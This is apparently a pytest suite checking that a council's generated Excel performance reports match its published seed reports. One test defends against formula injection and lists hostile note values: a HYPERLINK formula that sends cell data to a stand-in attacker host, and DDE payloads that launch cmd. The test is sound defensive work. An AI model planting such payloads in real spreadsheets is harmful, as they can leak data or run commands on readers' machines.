"""The published Excel reports read like the council's reports (the seed reports).

Opened with openpyxl: the seed's sections in the seed's order, seed values and statuses in
the right rows, group headings, feeder data on their own rows, N/A rows with their notes,
"New for 16/17", honest status with its footnote, LGBF as known at the report date, risks
with their related action, print set-up, the LGBF pack, and safety against formulas typed
into notes.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
from collections import Counter
from datetime import date

import duckdb
import openpyxl
import pytest

from orchestration import config
from orchestration.ops.cli import run
from orchestration.reports import cells, commentary
from orchestration.reports.cells import STATUS_COLOURS
from orchestration.reports.service_report import build_service_report
from tests.support.paths import REPO, SEEDS, seed_line
from tests.support.returns_factory import write_return

A = "000_09dcfc9c775a2e22.txt"
Q = "001_1ca03212745a48c4.txt"
ANNUAL = "midlothian__childrens-services__2019-20__performance-report.xlsx"
QUARTER = "midlothian__childrens-services__2016-17-Q2__performance-report.xlsx"
HEADER = 5  # 1-based row of each section's column headers

with open(REPO / "raw" / "transcription" / "framework_indicators.csv", encoding="utf-8") as f:
    TITLES = {r["indicator_code"]: r["title"] for r in csv.DictReader(f)}

# (workbook, sheet, PI code, column header, value as Excel holds it, status, seed, line, printed)
SEED_CELLS = [
    (ANNUAL, "PI Summary", "CS.CORP.SICKNESS", "2019/20", 11.02, "Off Target", A, 77, "11.02"),
    (ANNUAL, "PI Summary", "CS.CORP.SICKNESS", "2018/19", 9.32, "Off Target", A, 77, "9.32"),
    (ANNUAL, "PI Summary", "CS.CORP.BUDGET", "2019/20", 15.139, "On Target", A, 76, "£15.139m"),
    (ANNUAL, "PI Summary", "CS.CORP.INVOICES", "Q1 2019/20", 0.99, "On Target", A, 86, "99%"),
    (ANNUAL, "PI Summary", "CS.CORP.ACTIONS", "2019/20", 1.0, "On Target", A, 84, "100%"),
    (ANNUAL, "PI Summary", "CS.CORP.AUDIT_ACTIONS", "2018/19", 0.0, "On Target", A, 97, "0%"),
    (ANNUAL, "Complaints", "CS.COMP.RECEIVED_QTR", "Q4 2019/20", 9, "Data Only", A, 106, "\t9\t"),
    (ANNUAL, "Complaints", "CS.COMP.RECEIVED_QTR", "2019/20", 43, "Data Only", A, 106, "\t43\t"),
    (ANNUAL, "Complaints", "CS.COMP.S2_AVG_DAYS", "2019/20", 18.69, "On Target", A, 112, "18.69"),
    (
        ANNUAL,
        "Complaints",
        "CS.COMP.ESC_PCT_20D",
        "2019/20",
        0.7895,
        "Off Target",
        A,
        116,
        "78.95%",
    ),
    (
        ANNUAL,
        "Complaints",
        "CS.COMP.S1_PCT_5D",
        "Q4 2019/20",
        0.3333,
        "Off Target",
        A,
        114,
        "33.33%",
    ),
    (ANNUAL, "Balanced Scorecard", "BS.CSPC.04", "2017/18", 4893, "Data Only", A, 235, "4,893"),
    (
        ANNUAL,
        "Balanced Scorecard",
        "P.G.CSPC.3.3a",
        "2019/20",
        0.745,
        "Off Target",
        A,
        258,
        "74.5%",
    ),
    (ANNUAL, "PI Report", "xCSPC.P.2.1a", "2019/20", 246, "Data Only", A, 181, "\t246\t"),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "Q2 2016/17", 6.40, "Off Target", Q, 47, "6.40"),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "Q2 2015/16", 5.94, "Off Target", Q, 47, "5.94"),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "2015/16", 12.84, "Off Target", Q, 47, "12.84"),
    (  # the Q2 2016/17 complaints open its PI summary (001 l.31-39)
        QUARTER,
        "PI Summary",
        "CS.COMP.S2_AVG_DAYS",
        "Q2 2016/17",
        25.29,
        "On Target",
        Q,
        35,
        "25.29",
    ),
    (QUARTER, "PI Report", "CS.S.01.01a", "Q2 2016/17", 0.5, "On Target", Q, 94, "50%"),
    # the Q2 2016/17 balanced scorecard prints among its service priority PIs (001 l.89-141)
    (QUARTER, "PI Report", "BS.CS.14", "Q2 2016/17", 9, "On Target", Q, 136, "\t9\t"),
]


def _excel_dir():
    return config.output_dir() / "excel"


def _headers(ws) -> dict:
    return {ws.cell(HEADER, c).value: c for c in range(1, ws.max_column + 1)}


def _row(ws, code: str) -> int:
    """The row of a PI: by its code, or by its title where the section prints no code."""
    wanted = {code, TITLES.get(code)}
    return next(
        r
        for r in range(HEADER + 1, ws.max_row + 1)
        if ws.cell(r, 1).value in wanted or ws.cell(r, 2).value in wanted
    )


def _has(ws, code: str) -> bool:
    wanted = {code, TITLES.get(code)}
    return any(ws.cell(r, c).value in wanted for r in range(1, ws.max_row + 1) for c in (1, 2))


def _column_a(ws) -> list:
    return [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]


@pytest.fixture(scope="module")
def annual(built_warehouse):
    return openpyxl.load_workbook(_excel_dir() / ANNUAL)


@pytest.fixture(scope="module")
def quarter(built_warehouse):
    return openpyxl.load_workbook(_excel_dir() / QUARTER)


def test_every_period_has_a_report_with_a_predictable_name(built_warehouse):
    names = sorted(p.name for p in _excel_dir().glob("*__performance-report.xlsx"))
    assert ANNUAL in names and QUARTER in names
    # Midlothian's eleven periods, and East Dunbartonshire's year (raw/transcription/tenants)
    assert len([n for n in names if n.startswith("midlothian__")]) == 11
    assert "east-dunbartonshire__education__2023-24__performance-report.xlsx" in names
    assert len(names) == 12


def test_sections_in_the_seed_order(annual, quarter):
    # 000: narrative l.7, dashboard l.64, PI summary l.68, complaints l.100, actions l.121,
    # PI report l.161, risks l.218, balanced scorecard l.229, LGBF l.260
    assert annual.sheetnames == [
        "Report",
        "Exceptions",
        "Dashboard",
        "PI Summary",
        "Complaints",
        "Actions",
        "PI Report",
        "Risks",
        "Balanced Scorecard",
        "LGBF",
    ]
    # 001: its complaints (l.31-39) open the PI summary (l.26), before "Making the Best Use
    # of our Resources" (l.41), and its balanced scorecard PIs print in its service priority
    # table (l.89-141): no Complaints or Balanced Scorecard sheet of their own.
    assert quarter.sheetnames == [
        s for s in annual.sheetnames if s not in ("Complaints", "Balanced Scorecard")
    ]
    ws = quarter["PI Summary"]
    assert _row(ws, "CS.COMP.RECEIVED_CUM") < _row(ws, "CS.CORP.BUDGET")
    ws = quarter["PI Report"]  # 001 l.92-93, then CS.S.01.01a (l.94), ..., BS.CS.01 (l.122)
    order = [_row(ws, c) for c in ("BS.CS.LPI.04", "BS.CS.LPI.05", "CS.S.01.01a", "BS.CS.01")]
    assert order == sorted(order)
    assert seed_line(Q, 143).startswith("Local Government Benchmarking Framework")


def test_title_block_key_and_narrative(annual, quarter):
    ws = annual["Report"]
    text = [v for v in _column_a(ws) if v]
    assert text[:2] == [
        "Midlothian Council",
        "Children's Services Annual Performance Report 2019/20",
    ]
    assert seed_line(A, 3) == text[1]
    assert text[2].startswith("Data as at 26 May 2020")
    assert {"On Target", "Off Target", "Data Only", "▲", "▼", "►", "N/A"} <= set(text)
    # the narrative as printed, under its headings, in order (000 l.9, 11, 43, 62)
    first = seed_line(A, 11)
    assert (
        text.index("Successes and Challenges")
        < text.index(first)
        < text.index("Challenges and Risks")
    )
    assert text.index(seed_line(A, 62)) > text.index("Challenges and Risks")
    q = [v for v in _column_a(quarter["Report"]) if v]
    assert q[1] == seed_line(Q, 2) and seed_line(Q, 8) in q and seed_line(Q, 24) in q
    assert q.index("Emerging Challenges and Risks") < q.index(seed_line(Q, 20))


@pytest.mark.parametrize(
    "book,sheet,code,header,value,status,seed,line,printed",
    SEED_CELLS,
    ids=[f"{c[0][-30:-24]}-{c[2]}-{c[3]}" for c in SEED_CELLS],
)
def test_seed_values_and_statuses_in_the_right_rows(
    built_warehouse, book, sheet, code, header, value, status, seed, line, printed
):
    assert printed in seed_line(seed, line)
    ws = openpyxl.load_workbook(_excel_dir() / book)[sheet]
    headers, row = _headers(ws), _row(ws, code)
    cell = ws.cell(row, headers[header])
    assert cell.value == pytest.approx(value, abs=5e-5)
    if printed.endswith("%") and "." not in printed:  # 100%, as printed: not 100.00%
        assert cell.number_format == "0%"
    if header in ("2019/20", "Q2 2016/17"):  # the status belongs to the report's own period
        cell = ws.cell(row, headers["Status"])
        assert cell.value.startswith(status)
        assert cell.fill.fgColor.rgb == "FF" + STATUS_COLOURS[status][0][1:]


def test_each_report_prints_the_complaints_heading_of_its_own_period(annual, quarter):
    """The same complaints PIs, under the heading each seed report prints: the framework's
    complaints group re-headed from 2019-04-01 (raw/transcription/framework_groups.csv)."""
    then = seed_line(Q, 28).strip()  # the Q2 2016/17 complaints table's heading
    priority = seed_line(Q, 31).split("\t")[0]  # ... and the Priority of its rows
    now = seed_line(A, 102)  # the 2019/20 complaints table's heading
    assert (then, priority, now) == (
        "Outcomes and Customer Feedback",
        "01. Provide an efficient complaints service",
        "01.4 Commitment to valuing complaints",
    )
    for wb, heading, other, code in (
        (quarter, then, now, "CS.COMP.S1_AVG_DAYS"),
        (annual, now, then, "CS.COMP.S1_AVG_DAYS"),
    ):
        # the complaints open the PI summary in Q2 2016/17 and have a sheet of their own in
        # 2019/20, as in the seeds
        ws = next(ws for ws in wb if ws.title in ("Complaints", "PI Summary") and _has(ws, code))
        column_a = _column_a(ws)
        assert heading in column_a and other not in column_a
        assert column_a.index(heading) < _row(ws, code) - 1  # above the PIs it heads
    # Q2 2016/17 prints the group in each complaints row's Priority cell, as the seed does
    ws = quarter["PI Summary"]
    assert ws.cell(_row(ws, "CS.COMP.S1_AVG_DAYS"), 1).value == priority


def test_pi_summary_headings_and_feeder_rows(annual):
    ws = annual["PI Summary"]
    column_a = _column_a(ws)
    headings = [seed_line(A, n) for n in (72, 80, 93)]
    assert headings == [
        "1. Making the Best Use of our Resources",
        "2. Corporate Health",
        "3. Improving for the Future",
    ]
    at = [column_a.index(h) for h in headings]
    assert at == sorted(at)
    assert "CS.CORP.SICKNESS" not in {c.value for row in ws.iter_rows() for c in row}
    headers, row = _headers(ws), _row(ws, "CS.CORP.SICKNESS")
    feeder, value = headers["Feeder Data"], headers["Value"]
    # 000 l.77-78: "Number of days lost 1,427.88" then "Number of FTE in service 129.55"
    assert (ws.cell(row, feeder).value, ws.cell(row, value).value) == (
        "Number of days lost",
        1427.88,
    )
    assert (ws.cell(row + 1, feeder).value, ws.cell(row + 1, value).value) == (
        "Number of FTE in service",
        129.55,
    )
    assert "Number of FTE in service" in seed_line(A, 78)
    assert ws.cell(row, headers["Short Trend"]).value == "▼"  # 11.02 days against 9.32
    # Feeder data in the seed's order (reference.feeder_order): the invoices print the number
    # received first (000 l.86-87), the PIs on target the number on target (l.88-89).
    for code, first, second, line in (
        ("CS.CORP.INVOICES", "Number received (cumulative)", "Number paid within 30 days", 86),
        ("CS.CORP.PIS_ON_TARGET", "Number on tgt/complete", "Total number of PI's", 88),
    ):
        row = _row(ws, code)
        assert ws.cell(row, feeder).value == first and first in seed_line(A, line)
        assert ws.cell(row + 1, feeder).value.startswith(second)
        assert second in seed_line(A, line + 1)


def test_na_rows_with_their_notes_and_new_for(quarter):
    ws = quarter["PI Report"]
    headers = _headers(ws)
    for code, line in (("CS.S.02.01a", 105), ("CS.S.02.04a", 112), ("CS.S.03.02b", 120)):
        row = _row(ws, code)
        assert "N/A" in seed_line(Q, line) and "New for 16/17" in seed_line(Q, line)
        assert ws.cell(row, headers["Q2 2016/17"]).value == "N/A"
        assert ws.cell(row, headers["2015/16"]).value == "New for 16/17"
        assert ws.cell(row, headers["Note"]).value in seed_line(Q, line)
    bs = quarter["PI Report"]
    for code, line in (("BS.CS.01", 122), ("BS.CS.22", 141)):
        assert bs.cell(_row(bs, code), _headers(bs)["Q2 2016/17"]).value == "N/A"
        assert "N/A" in seed_line(Q, line)


def test_benchmark_column(annual, quarter):
    bs = annual["Balanced Scorecard"]
    ws = quarter["PI Report"]
    assert "Benchmark" in _headers(ws)
    text = "Benchmark 100%; National std is 8 wks; Midlothian std is 4 wks."
    assert text in seed_line(Q, 92)
    assert text in {c.value for row in bs.iter_rows() for c in row} | {
        c.value for row in ws.iter_rows() for c in row
    }


def test_status_differences_are_shown_marked_and_explained(annual, quarter):
    ws = annual["PI Summary"]
    headers, row = _headers(ws), _row(ws, "CS.CORP.PIS_ON_TARGET")
    cell = ws.cell(row, headers["Status"])
    # 000 l.88 prints 100% against a 90% target with the note "Off Target 6 of 8"
    assert "Off Target 6 of 8" in seed_line(A, 88)
    assert cell.value.startswith("On Target") and "reported: Off Target" in cell.value
    assert cell.border.left.style == "thick"
    notes = " ".join(str(v) for v in _column_a(ws) if v)
    # the documented exception's reason (dbt_project/seeds/status_exceptions.csv)
    assert "the service's note counts 6 of 8 PIs on target" in notes
    assert "the service reported 100% (6 of 6), but" in notes  # the % of PIs on target
    q = quarter["PI Report"]
    cell = q.cell(_row(q, "BS.CS.LPI.05"), _headers(q)["Status"])
    assert cell.value.startswith("Data Only") and "reported: Off Target" in cell.value
    assert "no annual target" in " ".join(str(v) for v in _column_a(q) if v)


def test_lgbf_as_known_at_the_report_date(annual, quarter):
    ws = quarter["LGBF"]
    headers, row = _headers(ws), _row(ws, "CHN8a")
    # 001 l.153: "£1,832.00 ... -" (2015/16 not yet published: "published ... January 2017", l.145)
    assert "£1,832.00" in seed_line(Q, 153) and "January 2017" in seed_line(Q, 145)
    assert ws.cell(row, headers["2010/11"]).value == 1832.0
    assert ws.cell(row, headers["2015/16"]).value == "-"
    assert "2016/17" not in headers
    ws = annual["LGBF"]
    headers = _headers(ws)
    assert ws.cell(_row(ws, "CHN8a"), headers["2010/11"]).value == 2050.88  # 000 l.268
    codes = [
        ws.cell(r, 1).value
        for r in range(HEADER + 1, ws.max_row + 1)
        if ws.cell(r, 1).value and ws.cell(r, 2).value  # not the commentary under the table
    ]
    assert codes == ["CHN8a", "CHN8b", "CHN9", "CHN22", "CHN23"]  # 000 l.268-272


def test_risks_with_related_action_or_none_reported(annual, quarter):
    ws = annual["Risks"]
    headers = _headers(ws)
    row = next(r for r, v in enumerate(_column_a(ws), start=1) if str(v).startswith("C.RR.01-09 "))
    assert ws.cell(row, headers["Risk Score"]).value == 9
    assert ws.cell(row, headers["Related Action"]).value.startswith(
        "Progress alternatives to External residential accommodation"
    )
    assert ws.cell(row, headers["Related Action"]).value in seed_line(A, 224)
    assert "No risks reported this period." in _column_a(quarter["Risks"])


def test_actions_grouped_by_outcome(annual):
    ws = annual["Actions"]
    column_a = _column_a(ws)
    heading = seed_line(A, 127)
    assert (
        column_a.index(heading)
        < column_a.index("xCSPC.P.1.1")
        < column_a.index(seed_line(A, 134))
        < column_a.index("xCSPC.P.2.1")
    )


def test_print_setup(annual):
    for ws in annual.worksheets:
        assert ws.page_setup.paperSize == 9  # A4
        assert "Page &P of &N" in ws.oddFooter.right.text
        assert "Data as at 26 May 2020" in ws.oddHeader.right.text
    ws = annual["PI Summary"]
    # fit to one page wide (1 is the default, which xlsxwriter leaves out), any number tall
    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$5:$5" and ws.freeze_panes == "A6"


def test_dashboard_and_pack_charts(built_warehouse):
    with zipfile.ZipFile(_excel_dir() / ANNUAL) as z:
        assert len([n for n in z.namelist() if n.startswith("xl/charts/chart")]) == 2
    pack = _excel_dir() / "midlothian__lgbf-benchmarking-pack.xlsx"
    book = openpyxl.load_workbook(pack)
    summary = book["Summary"]
    header = next(c.row for c in summary["A"] if c.value == "Code")
    codes = [c.value for c in summary["A"] if c.row > header and c.value]
    # The service's own LGBF indicators first, in the report's order, then every indicator the
    # January 2020 release ranks Midlothian on: one chart each, two to a page.
    assert codes[:5] == ["CHN8a", "CHN8b", "CHN9", "CHN22", "CHN23"]
    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        ranked = {
            r[0]
            for r in con.execute(
                "select distinct indicator_code from marts.fct_lgbf_benchmark"
                " where council = 'Midlothian' and rank is not null"
            ).fetchall()
        }
    assert len(ranked) > 90 and ranked <= set(codes)
    pages = (len(codes) + 1) // 2
    assert book.sheetnames[: pages + 2] == ["Summary", "Commentary"] + [
        f"Charts {i}" for i in range(1, pages + 1)
    ]
    assert "league table" in summary["A3"].value
    # The release line spans the table (in the Code column alone it wrapped over the next row).
    # The council's own reports printed other figures for CHN8a and CHN8b: it says where to look.
    assert summary["A2"].value.startswith("LGBF, January 2020 release, published 31 January 2020. ")
    assert summary["A2"].value.endswith("are on the Printed Otherwise sheet.")
    assert "A2:O2" in {str(m) for m in summary.merged_cells.ranges}
    # One release held: the Revised sheet says why it lists nothing.
    revised = book["Revised"]
    assert revised["A2"].value.startswith("No figures revised")
    assert revised.max_row == 3  # title, explanation, header
    publications = {summary.cell(r, 15).value for r in range(header + 1, summary.max_row + 1)}
    assert publications == {"LGBF, January 2020 release"}
    with zipfile.ZipFile(pack) as z:
        assert len([n for n in z.namelist() if n.startswith("xl/charts/chart")]) == len(codes)


def test_parquet_exports(built_warehouse):
    path = config.output_dir() / "parquet" / "fct_indicator_value.parquet"
    n = duckdb.sql(f"select count(*) from '{path}'").fetchall()[0][0]
    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        assert (
            n == con.execute("select count(*) from marts.fct_indicator_value").fetchone()[0] > 300
        )


HOSTILE = [
    '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

READER = textwrap.dedent(
    """
    import sys, time, duckdb, json
    path, stop = sys.argv[1], sys.argv[2]
    con = duckdb.connect(path, read_only=True)
    seen = set()
    import os
    while not os.path.exists(stop):
        seen.add(con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone())
        time.sleep(0.05)
    print(json.dumps(sorted([list(s) for s in seen])))
    """
)


def test_hostile_notes_and_a_reader_during_rebuild(
    built_warehouse, instance, tmp_path, monkeypatch
):
    """A resubmitted Q3 2019/20 return carries formula-like notes. While it is loaded an
    analyst holds the published warehouse open read-only: both succeed, the reader only ever
    sees the old warehouse, and the report regenerated as of today shows the notes as plain
    text. (The Q3 report as of its own date prints the return first loaded: the resubmission
    gives no "Submitted on", so it counts as submitted today; README "Reports".)"""
    returns = tmp_path / "returns"
    shutil.copytree(REPO / "raw" / "returns", returns)
    write_return(
        returns / "midlothian__childrens-services__2019-20__Q3.xlsx",
        indicators=[
            (code, "Quarter", v, None, None, None, note)
            for (code, v), note in zip(
                [
                    ("CS.CORP.SICKNESS", 7.82),
                    ("CS.CORP.INVOICES", 0.98),
                    ("CS.CORP.ACTIONS", 1),
                    ("CS.CORP.BUDGET", 15.423),
                ],
                HOSTILE,
            )
        ],
    )

    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        old = con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone()
    stop = tmp_path / "stop"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(built_warehouse), str(stop)],
        stdout=subprocess.PIPE,
        text=True,
    )
    monkeypatch.setenv("RETURNS_DIR", str(returns))
    try:
        result = run(("2019-20-Q3", "2019-20-Q3"), instance=instance)
    finally:
        stop.touch()
        out, _ = reader.communicate(timeout=60)
    assert result.success

    assert [tuple(s) for s in json.loads(out)] == [tuple(old)]  # the old warehouse, whole
    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        new = con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone()
    assert new != old

    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        report, _ = build_service_report(
            con, "Midlothian", "Children's Services", "2019-20-Q3", tmp_path, date.today()
        )
    ws = openpyxl.load_workbook(report)["PI Summary"]
    written = [ws.cell(r, _headers(ws)["Note"]) for r in range(HEADER + 1, ws.max_row + 1)]
    hostile_cells = [c for c in written if commentary.officer_note(c.value) in HOSTILE]
    assert len(hostile_cells) == len(HOSTILE)
    for cell in hostile_cells:
        assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(report) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in z.read(n).decode() for n in sheets), (
            "a cell was written as a formula"
        )

    # put the real Q3 return back for the rest of the session
    monkeypatch.setenv("RETURNS_DIR", str(REPO / "raw" / "returns"))
    assert run(("2019-20-Q3", "2019-20-Q3"), instance=instance).success


def test_the_lgbf_table_says_where_its_figures_come_from_and_why_no_rank(quarter, annual):
    """The line under the LGBF sheet's title spans the table (it was clipped to "Figures as"
    in the narrow Code column), and an External Comparison with no rank says why (Q2 2016/17:
    only the council's own printed figures were held, which are never ranked)."""
    for book in (quarter, annual):
        ws = book["LGBF"]
        (merged,) = [m for m in ws.merged_cells.ranges if m.min_row == 4]
        assert (merged.min_col, merged.max_col) == (1, ws.max_column)
        assert ws["A4"].value.startswith("Figures as published by then: ")
        assert ws["A4"].value.endswith("A year not yet published shows '-'.")
    ws = quarter["LGBF"]
    headers = {ws.cell(5, c).value: c for c in range(1, ws.max_column + 1)}
    codes = [ws.cell(r, 1).value for r in range(6, ws.max_row + 1) if ws.cell(r, 1).value]
    assert codes == ["CHN8a", "CHN8b", "CHN9"]
    for r in range(6, 6 + len(codes)):
        assert ws.cell(r, headers["External Comparison"]).value == cells.NOT_RANKED


STATUS_SHEETS = ("PI Summary", "Complaints", "PI Report", "Balanced Scorecard")


def _printed_statuses(ws, column: str = "Status") -> tuple[Counter, Counter]:
    """The statuses a table's cells print: the status shown, and the return's where the cell
    gives it beside ("Data Only ‡\\n(reported: Off Target)"), else the one shown."""
    shown, returned = Counter(), Counter()
    col = _headers(ws)[column]
    for r in range(HEADER + 1, ws.max_row + 1):
        text = ws.cell(r, col).value
        if not isinstance(text, str) or not text:
            continue
        word, _, beside = text.partition(f" {cells.DIFFERS_MARK}")
        shown[word] += 1
        returned[beside.strip().removeprefix("(reported: ").removesuffix(")") or word] += 1
    return shown, returned


def _dashboard_table(ws, first_header: str) -> dict[str, dict[str, int]]:
    """{column header: {status: count}} of the dashboard table headed ``first_header``."""
    top = next(c.row for c in ws["A"] if c.value == first_header)
    headers = {
        ws.cell(top, c).value: c for c in range(2, ws.max_column + 1) if ws.cell(top, c).value
    }
    table: dict[str, dict[str, int]] = {h: {} for h in headers}
    r = top + 1
    while ws.cell(r, 1).value:
        for h, c in headers.items():
            if isinstance(ws.cell(r, c).value, (int, float)) and ws.cell(r, c).value:
                table[h][ws.cell(r, 1).value] = ws.cell(r, c).value
        r += 1
    return table


def test_the_dashboard_counts_what_its_tables_print_with_the_same_words(quarter):
    """Q2 2016/17: the tables print one PI computed Off Target (sickness, 001 l.46) and two
    Data Only that the service reported Off Target (BS.CS.LPI.04/.05, l.92-93); every action
    row prints the service's "On Target" (l.68-85)."""
    shown, returned = Counter(), Counter()
    for name in STATUS_SHEETS:
        if name in quarter.sheetnames:
            s, r = _printed_statuses(quarter[name])
            shown, returned = shown + s, returned + r
    dashboard = quarter["Dashboard"]
    pis = _dashboard_table(dashboard, "PI status")
    assert set(pis) == {"Computed", "As returned"}
    assert (pis["Computed"], pis["As returned"]) == (dict(shown), dict(returned))
    off_target_lines = [line for line in _seed_lines(Q) if "Off Target" in line]
    assert returned["Off Target"] == len(off_target_lines) == 3
    assert shown["Off Target"] == 1
    actions_printed, _ = _printed_statuses(quarter["Actions"])
    actions = _dashboard_table(dashboard, "Action status")
    assert actions == {"Actions": dict(actions_printed)}
    action_rows = [line for line in _seed_lines(Q) if re.match(r"CS\.S\.\d\d\.\d\d\t", line)]
    assert all("On Target" in line for line in action_rows)
    assert actions_printed == Counter({"On Target": len(action_rows)}) == Counter({"On Target": 10})


def _seed_lines(seed_file: str) -> list[str]:
    return (SEEDS / seed_file).read_text(encoding="utf-8").splitlines()


FORBIDDEN_IN_FOOTNOTES = ("warehouse", "the return", "printed status", "..")


def _footnotes(wb) -> list[tuple[str, str, str]]:
    """(sheet, PI title, footnote) for every footnote under a table and every value comment."""
    out = []
    for ws in wb.worksheets:
        if "Indicator" not in _headers(ws):
            continue
        column = _headers(ws)["Indicator"]
        # a footnote opens with the PI's title, less a closing full stop ("... 4 week period.")
        titles = {
            str(ws.cell(r, column).value).rstrip(". ")
            for r in range(HEADER + 1, ws.max_row + 1)
            if ws.cell(r, column).value
        }
        notes = [c.comment.text for row in ws.iter_rows() for c in row if c.comment]
        column_a = _column_a(ws)
        heading = next(
            (i for i, v in enumerate(column_a) if v and "Notes on status" in str(v)), None
        )
        if heading is not None:
            notes += [re.sub(r"^\d+\. ", "", v) for v in column_a[heading + 1 :] if v]
        for note in notes:
            title = max((t for t in titles if note.startswith(t)), key=len, default=None)
            out.append((ws.title, title, note))
    return out


def test_footnotes_are_one_plain_sentence_for_a_councillor(built_warehouse):
    """Every footnote of every published report says, in one sentence, what differs and why:
    no word of the warehouse, the return or the printed status, and one full stop."""
    seen = 0
    for path in sorted(_excel_dir().glob("*__performance-report.xlsx")):
        for sheet, title, note in _footnotes(openpyxl.load_workbook(path)):
            seen += 1
            where = f"{path.name} {sheet}: {note}"
            assert title, f"a footnote names its PI by its printed title: {where}"
            for word in FORBIDDEN_IN_FOOTNOTES:
                assert word not in note.lower(), where
            rest = note[len(title) :]
            assert rest.startswith(": ") and rest.endswith("."), where
            assert not re.search(r"[.;!?]\s+[A-Z]", rest[:-1]), f"one sentence: {where}"
            assert "Reason:" not in rest, where
    # the seed reports' differences (dbt_project/seeds/status_exceptions.csv: 9 rows) and the
    # share of PIs on target where it differs: every one footnoted
    assert seen >= 9


def _group_headings(ws) -> list[str]:
    """The group headings of a table, in order: the rows with column A only (merged across),
    above the footnotes."""
    out = []
    for r in range(HEADER + 1, ws.max_row + 1):
        a, b = ws.cell(r, 1).value, ws.cell(r, 2).value
        if a and "Notes on status" in str(a):
            break
        if a and b is None:
            out.append(a)
    return out


def test_each_report_prints_its_own_periods_titles_and_headings(quarter, annual):
    """The Q2 2016/17 report titles its sheets and heads its groups as the 2016/17 seed does,
    not in the 2019/20 wording (reference.report_titles; the framework's Groups sheet)."""
    q = {ws.title: ws["A2"].value for ws in quarter}
    assert (
        q["PI Summary"] == seed_line(Q, 26) == "Children's Services Performance Indicator Summary"
    )
    assert q["PI Report"] == seed_line(Q, 89).strip() == "Service Priority Performance Indicators"
    assert q["Actions"] == seed_line(Q, 68)
    assert q["LGBF"] == seed_line(Q, 143)
    # 001 l.28, 41, 49 (extracted broken: "Corpo orate H lealth", raw/transcription/README.md), 61
    assert seed_line(Q, 49).split() == ["Corpo", "orate", "H", "lealth"]
    assert _group_headings(quarter["PI Summary"]) == [
        seed_line(Q, 28).strip(),
        seed_line(Q, 41),
        "Corporate Health",
        seed_line(Q, 61),
    ]
    # the PI summary's Priority cells, and the titles and feeder names the 2016/17 report
    # words otherwise (the framework's 2016/17 settings rows; 001 l.45-66)
    ws = quarter["PI Summary"]
    cell = {
        ws.cell(r, 1).value: (ws.cell(r, 2).value, ws.cell(r, 11).value, ws.cell(r + 1, 11).value)
        for r in range(HEADER + 1, ws.max_row + 1)
        if str(ws.cell(r, 1).value or "")[:3] in {f"0{n}." for n in range(2, 9)}
    }

    def joined(first: int, field: int) -> str:  # a cell the PDF broke over two lines
        return " ".join(seed_line(Q, n).split("\t")[field] for n in (first, first + 1))

    assert list(cell) == [
        seed_line(Q, 45).split("\t")[0],
        seed_line(Q, 47).split("\t")[0],
        joined(52, 0),
        joined(54, 0),
        joined(56, 0),
        seed_line(Q, 58).split("\t")[0],
        joined(65, 0),
    ]
    assert cell[joined(52, 0)][0] == joined(52, 1)  # "% of service priorities on target ..."
    assert cell[joined(65, 0)] == (
        joined(65, 1),  # "% of internal/external audit actions in progress"
        seed_line(Q, 65).split("\t")[-2],  # "Number of on target actions"
        seed_line(Q, 66).split("\t")[-2],  # "Number of outstanding actions"
    )
    assert cell[seed_line(Q, 47).split("\t")[0]][1:] == (
        seed_line(Q, 46).split("\t")[-2],  # "Number of days lost (cumulative)"
        seed_line(Q, 47).split("\t")[-2],  # "Average number of FTE in service (year to date)"
    )
    priorities = _group_headings(quarter["PI Report"])
    assert len(priorities) == 4 and all(
        any(line.split("\t")[1:2] == [p] or p in line for line in _seed_lines(Q)[88:141])
        for p in priorities
    )
    assert priorities[-1] == "04. Balanced Scorecard – Quarterly Indicators"
    # ... and the 2019/20 report keeps the 2019/20 wording (000 l.68, 72, 80, 93, 161, 229, 260)
    a = {ws.title: ws["A2"].value for ws in annual}
    assert (a["PI Summary"], a["PI Report"], a["Balanced Scorecard"], a["LGBF"]) == tuple(
        seed_line(A, n) for n in (68, 161, 229, 260)
    )
    assert _group_headings(annual["PI Summary"]) == [seed_line(A, n) for n in (72, 80, 93)]
    wording_2019 = {seed_line(A, n) for n in (68, 72, 80, 93, 161, 229, 260)}
    assert not wording_2019 & ({*q.values()} | {v for ws in quarter for v in _column_a(ws)})


def test_the_rendered_dashboard_and_lgbf_lines_read_right(quarter):
    """What the Q2 2016/17 PNGs showed wrong (docs/images/...2016-17-Q2__dashboard.png,
    ...__lgbf.png): the PI chart's legend in the spreadsheet's default blue and red for bars
    drawn in status colours (each series now has its own fill, dark for computed, light for
    as returned), and the LGBF source line's "(transcribed) (published ...)"."""
    with zipfile.ZipFile(_excel_dir() / QUARTER) as z:
        charts = [z.read(n).decode() for n in sorted(z.namelist()) if n.startswith("xl/charts/")]
    pi_chart = next(c for c in charts if "PIs by status" in c)
    series = re.findall(r"<c:ser>.*?</c:ser>", pi_chart, flags=re.S)
    assert len(series) == 2  # Computed, As returned
    for ser in series:
        own = ser.split("<c:dPt>")[0]  # the series' own format, before its points'
        assert "<c:spPr><a:solidFill>" in own, "the legend shows the series' own fill"
    line = quarter["LGBF"]["A4"].value
    assert ") (" not in line and ", published 30 September 2016" in line
